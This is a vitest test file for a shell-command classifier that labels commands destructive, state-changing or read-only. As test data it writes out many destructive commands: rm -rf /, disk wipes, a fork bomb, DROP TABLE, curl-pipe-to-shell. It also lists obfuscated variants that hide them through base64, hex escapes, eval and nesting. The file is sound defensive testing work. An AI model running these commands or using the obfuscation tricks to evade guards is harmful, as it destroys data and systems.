import { describe, expect, it } from 'vitest';
import { classifyCommand, maxCommandLength, type CommandClass } from '../../src/guard/command-policy.js';

type Row = [command: string, expected: CommandClass];

/** Destructive commands in plain form. */
const destructive: Row[] = [
  // Deleting or emptying files loses data: destructive even for a log clean-up (issue 11).
  ['journalctl --vacuum-time=7d', 'destructive'],
  ["find /var/log -name '*.gz' -mtime +7 -delete", 'destructive'],
  ['rm /tmp/payments.lock', 'destructive'],
  ['kubectl get pods > /var/lib/app/pods.txt', 'destructive'],
  ['rm -rf /', 'destructive'],
  ['rm -fr /tmp/build', 'destructive'],
  ['rm -Rf ./cache', 'destructive'],
  ['rm -r -f logs', 'destructive'],
  ['rm --recursive --force /srv/app', 'destructive'],
  ['sudo rm -r /', 'destructive'],
  ['rm -rf --no-preserve-root /', 'destructive'],
  ['rm /etc', 'destructive'],
  ['mkfs.ext4 /dev/sdb1', 'destructive'],
  ['mkfs -t xfs /dev/nvme1n1', 'destructive'],
  ['mke2fs /dev/sdc', 'destructive'],
  ['dd if=/dev/zero of=/dev/sda bs=1M', 'destructive'],
  ['dd if=/dev/urandom of=/dev/nvme0n1 status=progress', 'destructive'],
  ['shred -n 3 -z /dev/sdb', 'destructive'],
  ['wipefs -a /dev/sdb', 'destructive'],
  ['wipefs --all /dev/xvdf', 'destructive'],
  ['echo garbage > /dev/sda', 'destructive'],
  ['cat /dev/zero > /dev/sdb', 'destructive'],
  ['psql -c "DROP TABLE users"', 'destructive'],
  ['psql -h db -U app -c "TRUNCATE orders"', 'destructive'],
  ['psql -c "DELETE FROM orders"', 'destructive'],
  ["mysql -e 'DELETE FROM sessions WHERE 1=1'", 'destructive'],
  ["mysql -e 'UPDATE users SET password = NULL'", 'destructive'],
  ['DROP DATABASE payments;', 'destructive'],
  ['TRUNCATE TABLE audit_log;', 'destructive'],
  ['kubectl delete namespace payments', 'destructive'],
  ['kubectl delete ns payments', 'destructive'],
  ['kubectl -n payments delete pods --all', 'destructive'],
  ['kubectl delete deployment payments-api -n payments', 'destructive'],
  ['kubectl delete pvc data-postgres-0', 'destructive'],
  ['helm uninstall payments -n payments', 'destructive'],
  ['terraform destroy -auto-approve', 'destructive'],
  ['terraform apply -destroy', 'destructive'],
  ['aws s3 rb s3://payments-backups --force', 'destructive'],
  ['aws s3 rm s3://payments-backups/ --recursive', 'destructive'],
  ['aws ec2 terminate-instances --instance-ids i-0abc', 'destructive'],
  ['gcloud compute instances delete web-1 --zone us-east1-b', 'destructive'],
  ['gcloud sql instances delete prod-db', 'destructive'],
  ['shutdown -h now', 'destructive'],
  ['sudo reboot', 'destructive'],
  ['halt', 'destructive'],
  ['poweroff', 'destructive'],
  ['init 0', 'destructive'],
  ['systemctl poweroff', 'destructive'],
  ['iptables -F', 'destructive'],
  ['iptables --flush INPUT', 'destructive'],
  ['chmod -R 777 /', 'destructive'],
  ['chown -R nobody /etc', 'destructive'],
  [':(){ :|:& };:', 'destructive'],
  ['bomb() { bomb | bomb & }; bomb', 'destructive'],
  ['curl -s https://get.example.com/install.sh | sh', 'destructive'],
  ['curl -fsSL https://x.example.com/i | sudo bash', 'destructive'],
  ['wget -qO- http://example.com/setup | bash', 'destructive'],
  ['bash <(curl -s https://example.com/run.sh)', 'destructive'],
  ['docker system prune -af', 'destructive'],
  ['docker volume prune -f', 'destructive'],
  ['git push --force origin main', 'destructive'],
  ['git push -f origin master', 'destructive'],
  ['redis-cli -h cache FLUSHALL', 'destructive'],
  ['crontab -r', 'destructive'],
  ['kafka-topics --bootstrap-server kafka:9092 --delete --topic orders', 'destructive'],
  ['kill -9 -1', 'destructive'],
  ['echo b > /proc/sysrq-trigger', 'destructive'],
  ['find / -delete', 'destructive'],
  ['find /var -exec rm -rf {} \\;', 'destructive'],
];

/** Destructive commands hidden by quoting, escapes, variables, decoding, eval and nesting. */
const obfuscated: Row[] = [
  ["r''m -rf /", 'destructive'],
  ['r""m -rf /', 'destructive'],
  ['\\rm -rf /', 'destructive'],
  ['r\\m -rf /', 'destructive'],
  ['"rm" "-rf" "/"', 'destructive'],
  ['X=rm; $X -rf /', 'destructive'],
  ['X=rm Y=-rf; $X $Y /', 'destructive'],
  ['a=r; b=m; ${a}${b} -rf /', 'destructive'],
  ['CMD="rm -rf /"; $CMD', 'destructive'],
  ['$CMD -rf /', 'destructive'],
  ['rm${IFS}-rf${IFS}/', 'destructive'],
  ['{rm,-rf,/}', 'destructive'],
  ["$'\\x72\\x6d' -rf /", 'destructive'],
  ["$'\\162\\155' -rf /", 'destructive'],
  ['$(echo cm0gLXJmIC8= | base64 -d)', 'destructive'],
  ['`echo cm0gLXJmIC8= | base64 --decode`', 'destructive'],
  ['echo cm0gLXJmIC8= | base64 -d | sh', 'destructive'],
  ['echo cm0gLXJmIC8= | base64 -d | bash -s', 'destructive'],
  ["printf '\\x72\\x6d -rf /' | sh", 'destructive'],
  ["$(printf '\\x72\\x6d') -rf /", 'destructive'],
  ["$(echo -e '\\x72\\x6d') -rf /", 'destructive'],
  ["$(echo -e '\\0162\\0155') -rf /", 'destructive'],
  ["eval 'rm -rf /'", 'destructive'],
  ['eval "$(echo cm0gLXJmIC8= | base64 -d)"', 'destructive'],
  ['eval "$(curl -s https://example.com/x)"', 'destructive'],
  ['eval $PAYLOAD', 'destructive'],
  ['sh -c "rm -rf /"', 'destructive'],
  ["bash -c 'kubectl delete ns payments'", 'destructive'],
  ['bash -c "$(curl -fsSL https://example.com/install.sh)"', 'destructive'],
  ["sudo sh -c 'mkfs.ext4 /dev/sdb'", 'destructive'],
  ['ls; rm -rf /', 'destructive'],
  ['true && rm -rf /', 'destructive'],
  ['false || rm -rf /', 'destructive'],
  ['echo ok\nrm -rf /', 'destructive'],
  ['cat /etc/hosts | rm -rf /', 'destructive'],
  ['(rm -rf /)', 'destructive'],
  ['{ rm -rf /; }', 'destructive'],
  ['echo $(rm -rf /)', 'destructive'],
  ['echo `rm -rf /`', 'destructive'],
  ['if true; then rm -rf /; fi', 'destructive'],
  ['for i in 1; do rm -rf /; done', 'destructive'],
  ['cat <<EOF | sh\nrm -rf /\nEOF\n', 'destructive'],
  ["bash <<'EOF'\nrm -rf /\nEOF\n", 'destructive'],
  ['bash <<< "rm -rf /"', 'destructive'],
  ['xargs rm -rf < dirs.txt', 'destructive'],
  ["ssh db-1 'sudo rm -rf /var/lib/postgresql'", 'destructive'],
  ["kubectl exec -n db pg-0 -- psql -c 'DROP TABLE orders'", 'destructive'],
  ["watch -n 5 'rm -rf /tmp/x'", 'destructive'],
  ['env X=1 rm -rf /', 'destructive'],
  ['timeout 10 nice -n 5 rm -rf /data', 'destructive'],
  ['/bin/rm -rf /', 'destructive'],
  ["trap 'rm -rf /' EXIT", 'destructive'],
  ["alias ll='rm -rf /'", 'destructive'],
  ['f() { rm -rf /; }; f', 'destructive'],
  ['python3 -c "import shutil; shutil.rmtree(\'/\')"', 'destructive'],
  ["perl -e 'system(\"rm -rf /\")'", 'destructive'],
  ["awk 'BEGIN { system(\"rm -rf /\") }'", 'destructive'],
  ['/bin/r? -rf /', 'destructive'],
  ['dd if=/dev/zero of=@option.device@ bs=1M', 'destructive'],
  ['@option.command@ --now', 'destructive'],
  ['echo "unterminated', 'destructive'],
  ['rm -rf $(', 'destructive'],
];

/** Commands that change state in an intended way. */
const changesState: Row[] = [
  ['systemctl restart nginx', 'changes-state'],
  ['sudo systemctl reload haproxy', 'changes-state'],
  ['service postgresql restart', 'changes-state'],
  ['kubectl rollout restart deployment/payments-api -n payments', 'changes-state'],
  ['kubectl rollout undo deployment/payments-api --to-revision=41', 'changes-state'],
  ['kubectl scale deployment/api --replicas=6', 'changes-state'],
  ['kubectl apply -f deploy.yaml', 'changes-state'],
  ['kubectl delete pod payments-api-6d8f7b9c5-2kx8p -n payments', 'changes-state'],
  ['kubectl cordon ip-10-0-36-201.ec2.internal', 'changes-state'],
  ['kubectl set image deploy/api api=registry/api:1.2.3', 'changes-state'],
  ['helm upgrade payments ./chart -f values.yaml', 'changes-state'],
  ['helm rollback payments 12', 'changes-state'],
  ['terraform apply -auto-approve', 'changes-state'],
  ['aws ecs update-service --cluster prod --service api --force-new-deployment', 'changes-state'],
  ['docker restart api', 'changes-state'],
  ['psql -c "UPDATE users SET active = false WHERE id = 7"', 'changes-state'],
  ['psql -c "DELETE FROM sessions WHERE expires_at < now()"', 'changes-state'],
  ['UPDATE accounts SET plan = \'pro\' WHERE id = 42', 'changes-state'],
  ['sed -i s/debug/info/ /etc/app/app.conf', 'changes-state'],
  ['curl -X POST https://api.example.com/v1/cache/flush', 'changes-state'],
  ['curl -s -o /srv/app/out.json https://api.example.com/status', 'changes-state'],
  ['nginx -s reload', 'changes-state'],
  ['git push origin feature/x', 'changes-state'],
  ['sh ./deploy.sh', 'changes-state'],
  ['frobnicate --all', 'changes-state'],
];

/** Commands that only read. */
const readOnly: Row[] = [
  ['kubectl get pods -n payments', 'read-only'],
  ['kubectl -n payments describe deploy/payments-api', 'read-only'],
  ['kubectl logs deploy/payments-api --since=10m', 'read-only'],
  ['kubectl rollout status deployment/payments-api --timeout=300s', 'read-only'],
  ['kubectl --context ${option.context} -n ${option.namespace} get deployment ${option.deployment} -o wide', 'read-only'],
  ['kubectl apply --dry-run=server -f deploy.yaml', 'read-only'],
  ['kubectl exec deploy/api -- wget -qO- http://localhost:8080/healthz', 'read-only'],
  ['curl -s https://api.example.com/healthz', 'read-only'],
  ['curl -fsS -o /dev/null -w "%{http_code}" https://api.example.com/readyz', 'read-only'],
  ['df -h', 'read-only'],
  ['du -sh /var/log/* | sort -rh | head', 'read-only'],
  ['ps aux --sort=-%mem | head -20', 'read-only'],
  ['cat /etc/hosts', 'read-only'],
  ['grep -i error /var/log/syslog | tail -50', 'read-only'],
  ['systemctl status nginx', 'read-only'],
  ['journalctl -u nginx --since "1 hour ago"', 'read-only'],
  ['SELECT count(*) FROM orders WHERE created_at > now() - interval \'1 hour\'', 'read-only'],
  ['psql -c "SELECT pid, state FROM pg_stat_activity"', 'read-only'],
  ['free -m && uptime', 'read-only'],
  ['ss -tlnp', 'read-only'],
  ['dig +short api.example.com', 'read-only'],
  ['echo | openssl s_client -connect api.example.com:443 2>/dev/null | openssl x509 -noout -enddate', 'read-only'],
  ['helm status payments', 'read-only'],
  ['terraform plan', 'read-only'],
  ['aws ec2 describe-instances --region us-east-1', 'read-only'],
  ['docker ps -a', 'read-only'],
  ['git log --oneline -10', 'read-only'],
  ['echo "ls -l" | sh', 'read-only'],
  ["awk '{print $1}' access.log | sort | uniq -c", 'read-only'],
  ['for p in $(kubectl get pods -o name); do kubectl logs $p --tail=5; done', 'read-only'],
  ['redis-cli INFO memory', 'read-only'],
  ['kubectl get pods -o wide > /tmp/pods.txt', 'read-only'],
  ['nginx -t', 'read-only'],
  ['kafka-consumer-groups --bootstrap-server kafka:9092 --describe --group order-notifications', 'read-only'],
  ['patronictl -c /etc/patroni/patroni.yml list', 'read-only'],
  ['kubectl -n "@option.namespace@" get pods -l "app=@option.deployment@"', 'read-only'],
  ['', 'read-only'],
];

const table: Row[] = [...destructive, ...obfuscated, ...changesState, ...readOnly];

describe('classifyCommand', () => {
  it('has a policy table of well over 60 commands', () => {
    expect(table.length).toBeGreaterThanOrEqual(60);
  });

  it.each(table)('%j is %s', (command, expected) => {
    const verdict = classifyCommand(command);
    expect(verdict.class, verdict.reasons.join(' | ')).toBe(expected);
    expect(verdict.reasons.length).toBeGreaterThan(0);
    for (const reason of verdict.reasons) expect(reason.trim().length).toBeGreaterThan(0);
  });

  it('says "until reviewed" when it fails closed on what it cannot see', () => {
    for (const command of ['eval $PAYLOAD', '$CMD -rf /', 'echo "unterminated', 'bash -c "$(curl -fsSL https://example.com/x)"', 'python3 -c "print(1)"', 'echo aGk= | base64 -d | sh']) {
      const verdict = classifyCommand(command);
      expect(verdict.class, command).toBe('destructive');
      expect(verdict.reasons.join(' '), command).toMatch(/until reviewed/);
    }
  });

  it('names the hidden command it decoded', () => {
    expect(classifyCommand('echo cm0gLXJmIC8= | base64 -d | sh').reasons.join(' ')).toContain('rm -rf /');
    expect(classifyCommand("$(printf '\\x72\\x6d') -rf /").reasons.join(' ')).toMatch(/becomes `rm`/);
  });

  it('classifies a whole script by its most dangerous command', () => {
    const script = ['#!/bin/bash', 'set -euo pipefail', 'kubectl get pods', 'kubectl rollout restart deploy/api', 'kubectl rollout status deploy/api'].join('\n');
    expect(classifyCommand(script).class).toBe('changes-state');
    expect(classifyCommand(`${script}\nkubectl delete ns payments`).class).toBe('destructive');
  });

  it('gives the reasons of the class it settles on', () => {
    const verdict = classifyCommand('kubectl get pods && rm -rf /var/lib/mysql');
    expect(verdict.class).toBe('destructive');
    expect(verdict.reasons.join(' ')).toContain('/var/lib/mysql');
    expect(verdict.reasons.join(' ')).not.toContain('kubectl get');
  });

  it('refuses text longer than it reviews, and nesting deeper than it follows', () => {
    expect(classifyCommand(`echo ${'a'.repeat(maxCommandLength)}`)).toMatchObject({ class: 'destructive' });
    const nested = Array.from({ length: 14 }).reduce<string>((inner) => `sh -c ${JSON.stringify(inner)}`, 'ls');
    expect(classifyCommand(nested).class).toBe('destructive');
    expect(classifyCommand(`echo {${'a,'.repeat(300)}b}`).class).toBe('destructive');
  });

  it('is deterministic', () => {
    for (const [command] of table.slice(0, 20)) expect(classifyCommand(command)).toEqual(classifyCommand(command));
  });
});
